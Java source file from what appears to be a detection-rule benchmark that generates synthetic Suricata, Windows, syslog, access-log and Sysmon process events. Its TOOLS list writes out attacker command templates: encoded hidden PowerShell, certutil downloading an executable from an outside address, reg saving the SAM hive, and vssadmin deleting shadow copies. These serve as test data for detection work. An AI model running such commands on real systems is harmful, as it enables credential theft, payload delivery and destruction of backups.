package io.redoubt.bench;

import io.redoubt.bench.benign.BenignFleet;
import io.redoubt.event.Event;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.random.RandomGeneratorFactory;
import java.util.stream.IntStream;

/// Events by the kind of work they are for rules. All are generated, hardly any repeat, and the
/// same number gives the same ones.
final class Lanes {
  private static final int SEED = 7;
  private static final List<String> TOOLS =
      List.of(
          "powershell.exe -nop -w hidden -enc %s",
          "cmd.exe /c whoami /all & net user u%s",
          "rundll32.exe C:\\\\Users\\\\Public\\\\%s.dll,Start",
          "certutil.exe -urlcache -split -f http://198.51.100.7/%s.exe",
          "reg.exe save HKLM\\\\SAM C:\\\\Temp\\\\%s.hiv",
          "vssadmin.exe delete shadows /all /quiet & rem %s");

  private Lanes() {}

  /// The lanes by name, of so many events each.
  static Map<String, List<Event>> of(int events, Path folder) throws IOException {
    Files.createDirectories(folder);
    Map<String, List<Event>> lanes = new LinkedHashMap<>();
    lanes.put("sparse (Suricata)", generated(LogGenerator.Kind.EVE, events, folder));
    lanes.put("structured Windows", fleet(events, folder.resolve("fleet")));
    lanes.put("raw text (syslog)", generated(LogGenerator.Kind.SYSLOG, events, folder));
    lanes.put("raw text (access)", generated(LogGenerator.Kind.ACCESS, events, folder));
    lanes.put("match-heavy", processes(true, events, folder));
    lanes.put("no-match", processes(false, events, folder));
    return lanes;
  }

  private static List<Event> generated(LogGenerator.Kind kind, int events, Path folder)
      throws IOException {
    LogGenerator generator =
        new LogGenerator(RandomGeneratorFactory.of("L64X128MixRandom").create(SEED));
    return read(
        folder.resolve(kind + ".log"),
        IntStream.range(0, events).mapToObj(_ -> generator.line(kind)).toList(),
        events);
  }

  private static List<Event> read(Path file, List<String> lines, int events) throws IOException {
    Files.write(file, lines);
    return MatchBenchmark.events(List.of(file.toString()), events);
  }

  /* What a healthy fleet's Windows machines log in days. */
  private static List<Event> fleet(int events, Path folder) throws IOException {
    if (!Files.isDirectory(folder)) {
      BenignFleet.main(folder.toString(), "2", String.valueOf(SEED));
    }
    return MatchBenchmark.events(List.of(folder.toString()), Integer.MAX_VALUE).stream()
        .filter(event -> event.format().id().startsWith("windows"))
        .limit(events)
        .toList();
  }

  /// Starts of processes, attackers' tools or programs of no name.
  static List<Event> processes(boolean tools, int events, Path folder) throws IOException {
    Random random = new Random(SEED);
    return read(
        folder.resolve(tools ? "tools.json" : "programs.json"),
        IntStream.range(0, events).mapToObj(i -> process(tools, i, random)).toList(),
        events);
  }

  private static String process(boolean tools, int i, Random random) {
    String some = Long.toString(random.nextLong() >>> 1, 36);
    String line =
        tools
            ? TOOLS.get(i % TOOLS.size()).formatted(some)
            : "C:\\\\Apps\\\\" + some + ".exe --port " + random.nextInt(60_000);
    String image = line.substring(0, line.indexOf(".exe") + 4);
    return String.format(
        Locale.ROOT,
        "{\"@timestamp\":\"2026-11-01T%02d:%02d:%02d.000Z\",\"Channel\":"
            + "\"Microsoft-Windows-Sysmon/Operational\",\"SourceName\":\"Microsoft-Windows-Sysmon\","
            + "\"EventID\":1,\"Hostname\":\"ws%03d\",\"Image\":\"%s\",\"CommandLine\":\"%s\","
            + "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"CORP\\\\u%d\","
            + "\"ProcessId\":\"%d\",\"IntegrityLevel\":\"Medium\"}",
        i / 3600 % 24,
        i / 60 % 60,
        i % 60,
        random.nextInt(400),
        tools ? "C:\\\\Windows\\\\System32\\\\" + image : image,
        line,
        random.nextInt(5_000),
        random.nextInt(60_000));
  }
}
